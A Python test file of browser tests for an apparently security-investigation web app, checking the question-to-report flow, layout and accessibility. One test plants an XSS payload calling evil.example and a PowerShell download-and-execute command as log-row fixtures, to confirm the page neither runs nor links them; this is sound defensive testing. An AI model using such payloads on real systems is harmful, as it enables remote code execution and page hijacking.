"""The view in a real browser: from a question to its report by hand, with nothing of a log that runs or leaves."""

from __future__ import annotations

import asyncio
import json
from collections.abc import AsyncIterator
from pathlib import Path

import pytest

from tests.chromium import AXE, PATIENCE, PROGRAM, QUIET, Tab, browser, faults_of_axe
from tests.graph.workspace import END, process, small, write

from .serving import served

pytestmark = [
    pytest.mark.slow,
    pytest.mark.skipif(PROGRAM is None, reason="no Chromium on this machine; apt-get install chromium"),
]
QUESTION = "Anything suspicious on host ws-1 in the last day?"
HOSTILE = (
    "<img src=x onerror=\"fetch('https://evil.example')\"><script>document.title='owned'</script> https://evil.example"
)


class Person:
    """Somebody at the browser."""

    def __init__(self, tab: Tab, url: str) -> None:
        self.tab, self.url = tab, url

    async def sees(self, selector: str) -> None:
        """Wait until the page shows something."""
        async with asyncio.timeout(2 * PATIENCE):
            while True:
                if await self._shown(selector):
                    break
                await asyncio.sleep(0.2)
        await asyncio.sleep(QUIET)

    async def _shown(self, selector: str) -> bool:
        try:
            return bool(await self.tab.value(f"document.querySelector({json.dumps(selector)})?.checkVisibility()"))
        except AssertionError:
            return False  # between two pages

    async def types(self, selector: str, text: str) -> None:
        """Put text where it belongs, key by key for the page's scripts."""
        await self.tab.value(f"document.querySelector({json.dumps(selector)}).focus()")
        await self.tab.value(f"document.querySelector({json.dumps(selector)}).select()")
        await self.tab.ask("Input.insertText", text=text)

    async def presses(self, selector: str) -> None:
        await self.tab.value(f"document.querySelector({json.dumps(selector)}).click()")

    async def no_fault(self) -> None:
        """Nothing was complained of, and nothing was asked of anybody but this server."""
        origin = self.url.partition("/?")[0]
        assert self.tab.faults == []
        assert [url for url in self.tab.requests if not url.startswith((origin, "data:"))] == []


@pytest.fixture
async def tab(tmp_path: Path) -> AsyncIterator[Tab]:
    async with browser(tmp_path / "profile") as opened:
        yield opened


async def test_ask_watch_edit_read_and_follow_up(tab: Tab, tmp_path: Path) -> None:
    async with served(tmp_path) as url:
        person = Person(tab, url)
        await tab.open(url)
        assert "token" not in await tab.value("location.href")
        assert await tab.value("document.activeElement.id") == "question"
        await person.types("#question", QUESTION)
        await tab.value("document.getElementById('approve').value = 'always'")
        await tab.ask("Input.dispatchKeyEvent", type="keyDown", key="Enter", code="Enter", modifiers=2)

        await person.sees("#plan")
        text = 'DeviceProcessEvents | where ProcessCommandLine has "DownloadString"'
        await person.types("#query-r1q6", text)
        assert await tab.value("document.getElementById('edited').textContent") != ""
        await person.presses("#run")
        await person.sees("#steps .query")  # written by the script as it happens, or by the page that follows
        await person.sees("#plan")
        await person.presses("button[value=ignore]")
        await person.sees("#report")
        assert "Confirmed" in await tab.value("document.getElementById('stage').textContent")
        case = await tab.value("location.href")

        await tab.open(f"{case}/report")
        assert await tab.value("document.querySelector('.verdict').textContent") != ""
        assert await tab.value("try { localStorage.length; 'shared' } catch { 'alone' }") == "alone"
        await tab.open(case)
        await person.types("#question", "What else did jdoe do?")
        await person.presses(".ask button")
        await person.sees("#stage.running")
        assert "jdoe" in await tab.value("document.querySelector('h1').textContent")
        await person.sees("#report")
        assert "jdoe" in await tab.value("document.querySelector('h1').textContent")
        await person.no_fault()


async def test_what_rows_say_neither_runs_nor_leaves(tab: Tab, tmp_path: Path) -> None:
    small(tmp_path / "logs")
    command = f"powershell.exe -enc SQBFAFgA -Command IEX(New-Object Net.WebClient).DownloadString('{HOSTILE}')"
    hostile = [process(n, "ws-1", command, account=HOSTILE) for n in range(1, 4)]
    write(tmp_path / "logs", "DeviceProcessEvents", [*hostile, process(0, "ws-2", "calc.exe")])
    async with served(tmp_path, now=END) as url:
        person = Person(tab, url)
        await tab.open(url)
        await person.types("#question", f"Anything suspicious on host ws-1 in the last day? {HOSTILE}")
        await person.presses(".ask button")
        await person.sees("#report")
        case = await tab.value("location.href")
        for address in (case, f"{case}/report", url.partition("?")[0], url.partition("?")[0] + "findings"):
            await tab.open(address)
            assert await tab.value("document.title") != "owned"
            assert await tab.value("document.querySelectorAll('img').length") == 0
            links = "[...document.querySelectorAll('a[href*=evil]')].length"
            assert await tab.value(links) == 0
        await person.no_fault()


@pytest.mark.parametrize("scheme", ["light", "dark"])
async def test_it_fits_a_phone_and_everybody(tab: Tab, tmp_path: Path, scheme: str) -> None:
    async with served(tmp_path) as url:
        person = Person(tab, url)
        await tab.ask("Emulation.setEmulatedMedia", features=[{"name": "prefers-color-scheme", "value": scheme}])
        await tab.sized(320)
        await tab.open(url)
        await _fits(tab)
        await person.types("#question", f"{QUESTION} {'a-very-long-name-without-a-break' * 6}")
        await tab.value("document.getElementById('approve').value = 'always'")
        await person.presses(".ask button")
        await person.sees("#plan")
        await _fits(tab)
        await person.presses("button[value=ignore]")
        await person.sees("#report")
        await _fits(tab)


async def _fits(tab: Tab) -> None:
    assert await tab.value("document.documentElement.scrollWidth") <= 320
    if AXE.exists():
        assert await faults_of_axe(tab) == []
